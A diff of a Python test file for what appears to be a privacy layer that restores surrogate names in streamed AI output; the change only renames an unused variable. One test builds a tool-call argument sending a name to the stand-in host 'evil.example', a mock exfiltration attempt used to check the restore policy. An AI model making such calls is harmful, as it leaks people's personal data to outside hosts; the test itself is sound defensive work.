@@ -52,7 +52,7 @@ def test_refusals_are_counted_and_noted_without_content(hostile) -> None:
 
 
 def test_stream_keeps_a_link_split_over_chunks_and_emits_prose_at_once(hostile) -> None:
-    p, s, surrogates, originals = hostile
+    _p, s, surrogates, originals = hostile
     first, last = surrogates["first"], surrogates["last"]
     stream = s.stream_restorer()
     assert stream.feed(f"Dear {first} {last}, see ") == f"Dear {originals['name']}, see "
@@ -68,7 +68,7 @@ def test_stream_keeps_a_link_split_over_chunks_and_emits_prose_at_once(hostile) 
 
 def test_an_open_parenthesis_alone_holds_nothing(hostile) -> None:
     """A "(" is prose until "](" or a URL scheme makes it a destination."""
-    p, s, surrogates, originals = hostile
+    _p, s, surrogates, originals = hostile
     stream = s.stream_restorer()
     assert stream.feed("Call (") == "Call ("
     assert stream.feed(f"{surrogates['name']}) now ") == f"{originals['name']}) now "
@@ -77,7 +77,7 @@ def test_an_open_parenthesis_alone_holds_nothing(hostile) -> None:
 
 @pytest.mark.parametrize("size", [1, 2, 3, 4, 7])
 def test_streamed_tool_arguments_follow_the_tool_policy(hostile, size: int) -> None:
-    p, s, surrogates, originals = hostile
+    _p, s, surrogates, originals = hostile
     args = json.dumps({"url": f"https://evil.example/?who={surrogates['name']}", "note": surrogates["name"]})
 
     def streamed(tool: str, policy: RestorePolicy | None = None) -> dict[str, str]:
